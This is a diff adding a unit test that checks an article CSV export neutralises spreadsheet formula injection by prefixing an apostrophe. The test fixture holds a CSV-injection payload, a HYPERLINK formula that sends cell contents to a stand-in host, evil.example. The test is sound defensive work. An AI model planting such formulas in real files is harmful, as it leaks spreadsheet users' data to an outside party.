@@ -28,4 +28,9 @@ describe('article list rows', () => {
     expect(csv).toBe('title,slug,type,status,published_at,created_at,description\r\n"Brie, ""the queen""",brie,Pairing Guide,Published,2026-05-01T00:00:00Z,2026-01-01T00:00:00Z,Soft\r\n');
     expect(exportFileName(now)).toBe('articles-2026-06-01.csv');
   });
+  it("a partner's formula title reaches the export as text, not as a formula", () => {
+    const evil = { ...e(null), title: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")', description: '@SUM(A1)' };
+    const line = articlesCsv([evil], now).split('\r\n')[1];
+    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")",brie,Pairing Guide,Draft,,2026-01-01T00:00:00Z,'@SUM(A1)`);
+  });
 });
